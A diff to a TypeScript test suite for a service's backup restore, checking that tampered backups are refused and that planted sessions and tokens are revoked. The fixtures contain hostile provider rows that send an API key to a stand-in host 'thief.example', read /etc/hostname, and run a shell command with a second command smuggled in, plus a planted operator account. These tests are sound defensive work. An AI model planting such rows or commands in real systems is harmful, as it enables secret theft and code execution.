@@ -66,8 +66,9 @@ const provider = (name: string, reference: string) =>
   `insert into providers (name, kind, base_url, api_key, allow_private)
    values ('${name}', 'openai', 'https://thief.example/v1', '{"variable":"${reference}"}', 0)`;
 
-test("a backup of one's own needs no consent", async () => {
-  expect((await restore(file)).code).toBe(0);
+test("a backup of one's own needs no consent, and ends nothing", async () => {
+  const { code, stdout } = await restore(file, "--json");
+  expect([code, JSON.parse(stdout).ended_access]).toEqual([0, false]);
 });
 
 test("rows that another person has written are listed and refused, and nothing has run", async () => {
@@ -76,6 +77,9 @@ test("rows that another person has written are listed and refused, and nothing h
     provider("runs", `command:/usr/bin/touch ${proof}`),
     provider("reads", "file:/etc/hostname"),
     provider("sends", "OPENAI_API_KEY"),
+    provider("writes", `command:/bin/sh -c id>${proof};echo\\tkey`),
+    // Options with the names of columns.
+    `update providers set options = '{"api_key":{"text":""},"base_url":{"text":"https://api.openai.com"}}'`,
     `insert into users (id, email, name, password_hash, is_operator, operator_by_identity, created_at_ms)
      values ('u1', 'thief@thief.example', 'Thief', 'x', 1, 0, 1)`,
   );
@@ -85,9 +89,41 @@ test("rows that another person has written are listed and refused, and nothing h
   expect(stderr).toContain("provider reads reads the file /etc/hostname for thief.example");
   expect(stderr).toContain("provider sends sends the variable OPENAI_API_KEY to thief.example");
   expect(stderr).toContain("thief@thief.example administers the gateway");
+  expect(stderr).toContain(
+    `provider writes runs /bin/sh -c id>${proof};echo key for thief.example`,
+  );
   expect([existsSync(join(target(), "svc.db")), existsSync(proof)]).toEqual([false, false]);
   expect((await restore(backup, "--trust")).code).toBe(0);
   expect(existsSync(proof)).toBe(false);
+});
+
+test("what a writer of the backup may have hidden in hashes is ended, and operators get a link", async () => {
+  const moments = "1, 1, 9e15, '', ''";
+  const backup = await changed(
+    `insert into users (id, email, name, password_hash, is_operator, created_at_ms)
+     values ('u1', 'op@acme.example', 'Op', 'x', 1, 1), ('u2', 'dev@acme.example', 'Dev', 'x', 0, 1)`,
+    `insert into sessions (id, user_id, hash, created_at_ms, last_seen_ms, expires_at_ms, user_agent, address)
+     values ('s', 'u1', 'h', ${moments})`,
+    `insert into invites (id, hash, kind, created_by, created_by_id, created_at_ms, expires_at_ms)
+     values ('i', 'h', 'operator', '', '', 1, 9e15)`,
+    `insert into tokens (id, name, hash, hint, role, scopes, created_by, created_by_id, created_at_ms)
+     values ('t', 't', 'h', '', 'operator', '["providers:write"]', '', '', 1)`,
+    `insert into passkeys (id, user_id, name, public_key, counter, transports, rp_id, is_backed_up, created_at_ms)
+     values ('p1', 'u1', '', '', 0, '[]', '', 0, 1), ('p2', 'u2', '', '', 0, '[]', '', 0, 1)`,
+    `insert into identities values ('https://id.example', 'thief', 'u1', '', null, 1, 1)`,
+  );
+  const { code, stdout } = await restore(backup, "--trust", "--json");
+  expect([code, JSON.parse(stdout).ended_access]).toEqual([0, true]);
+  const raw = new Database(join(target(), "svc.db"));
+  const all = (sql: string) => raw.query(sql).values().flat();
+  expect(all("select id from sessions union select id from invites")).toEqual([]);
+  expect(all("select id from tokens where revoked_at_ms is null")).toEqual([]);
+  expect(all("select password_hash from users order by id")).toEqual(["", "x"]);
+  expect(all("select id from passkeys union select subject from identities")).toEqual(["p2"]);
+  raw.close();
+  const environment = { ...secret(), SVC_DATA_DIR: target() };
+  const link = await home.svc(["operator", "reset", "op@acme.example"], { environment });
+  expect([link.code, link.stdout]).toEqual([0, expect.stringContaining("http")]);
 });
 
 test("a passphrase does not show who wrote a backup that brings its own secret", async () => {
